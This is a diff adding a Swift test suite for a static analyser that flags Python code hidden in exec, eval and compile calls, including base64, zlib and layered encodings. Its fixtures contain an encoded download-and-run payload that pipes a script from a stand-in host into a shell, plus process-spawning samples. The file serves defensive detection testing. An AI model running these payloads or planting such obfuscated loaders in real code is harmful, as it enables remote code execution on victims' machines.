@@ -1,0 +1,80 @@
+import Analysis
+import Foundation
+import LockgateCore
+import Testing
+
+/// Code hidden in a string is code: what `exec`, `eval` and `compile` receive as a constant (a literal, or a value
+/// folded from base64, zlib, hex, `chr` lists) is analysed, and its behaviours are reported at the call.
+@Suite struct PythonExecutedCodeTests {
+    /// `import os\nos.system('curl http://x.example/i.sh | sh')\n`, base64-encoded.
+    static let shellPayload = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5leGFtcGxlL2kuc2ggfCBzaCcpCg=="
+
+    @Test func base64CodeIsAnalysedAtTheCall() {
+        let analysis = PythonTestSupport.analyse("import base64\nexec(base64.b64decode('\(Self.shellPayload)'))\n")
+        let atCall = analysis.allBehaviours.filter { $0.line == 2 && $0.column == 1 }
+        let kinds = Set(atCall.map(\.kind))
+        #expect(kinds.isSuperset(of: [.evalCode, .importOSModule, .spawnProcess, .shellCommand]))
+        let spawn = atCall.first { $0.kind == .spawnProcess }
+        #expect(spawn?.snippet == "decoded: os.system('curl http://x.example/i.sh | sh')")
+        #expect(atCall.allSatisfy { $0.context == .runtime })
+    }
+
+    @Test func literalCodeAndCompileAreAnalysed() {
+        let literal = PythonTestSupport.analyse("exec(\"import subprocess; subprocess.Popen(['id'])\")\n")
+        #expect(PythonTestSupport.kinds(literal).contains(.spawnProcess))
+        let compiled = PythonTestSupport.analyse(
+            "code = compile(\"__import__('os').system('id')\", '<string>', 'exec')\neval(code)\n")
+        #expect(PythonTestSupport.kinds(compiled).contains(.spawnProcess))
+    }
+
+    @Test func layersOfEncodedCodeAreFollowed() {
+        // exec(b64(...)) whose decoded code is itself `exec(base64.b64decode(shellPayload))`.
+        let outer =
+            "aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoJ2FXMXdiM0owSUc5ekNtOXpMbk41YzNSbGJTZ25ZM1Z5YkNCb2RIUndP"
+            + "aTh2ZUM1bGVHRnRjR3hsTDJrdWMyZ2dmQ0J6YUNjcENnPT0nKSk="
+        let analysis = PythonTestSupport.analyse("import base64\nexec(base64.b64decode('\(outer)'))\n", context: .install)
+        let spawn = analysis.allBehaviours.first { $0.kind == .spawnProcess }
+        #expect(spawn?.line == 2)
+        #expect(spawn?.context == .install)
+        #expect(spawn?.snippet == "decoded: os.system('curl http://x.example/i.sh | sh')")
+    }
+
+    @Test func zlibPackedCodeIsInflatedAndAnalysed() {
+        // zlib.compress of a script that runs what it downloads, base64-encoded.
+        let packed =
+            "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hSq1ITdZAFdMDcvMLUvM01DNKSgqs9PUr9FIrEnMLclL1C9Q1gaoSUzQ0NbkA1gUcvg=="
+        let analysis = PythonTestSupport.analyse(
+            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('\(packed)')))\n")
+        let kinds = PythonTestSupport.kinds(analysis)
+        #expect(kinds.contains(.downloadExecute), "\(PythonTestSupport.describe(analysis))")
+        #expect(kinds.contains(.useNetwork))
+    }
+
+    @Test func valuesThatAreNotCodeAddNothing() {
+        let analysis = PythonTestSupport.analyse(
+            """
+            import base64, zlib
+            a = eval('1')
+            b = eval('True')
+            c = exec("x = 'os.system(1)'  # subprocess.Popen")
+            d = exec(zlib.decompress(b'not a zlib stream'))
+            """)
+        let kinds = PythonTestSupport.kinds(analysis)
+        #expect(!kinds.contains(.spawnProcess))
+        #expect(!kinds.contains(.importOSModule))
+    }
+
+    @Test func deepLayersStopAtTheLimit() {
+        // Ten layers of exec(base64.b64decode(...)) around a process run: only the first few layers are analysed,
+        // so the run at the bottom is not reported, and nothing recurses without end.
+        func wrap(_ code: String) -> String {
+            "import base64\nexec(base64.b64decode('" + Data(code.utf8).base64EncodedString() + "'))\n"
+        }
+        let bottom = "__import__('os').system('id')\n"
+        let shallow = PythonTestSupport.analyse((0..<3).reduce(bottom) { code, _ in wrap(code) })
+        #expect(PythonTestSupport.kinds(shallow).contains(.spawnProcess))
+        let deep = PythonTestSupport.analyse((0..<10).reduce(bottom) { code, _ in wrap(code) })
+        #expect(!PythonTestSupport.kinds(deep).contains(.spawnProcess))
+        #expect(PythonTestSupport.kinds(deep).contains(.evalCode))
+    }
+}
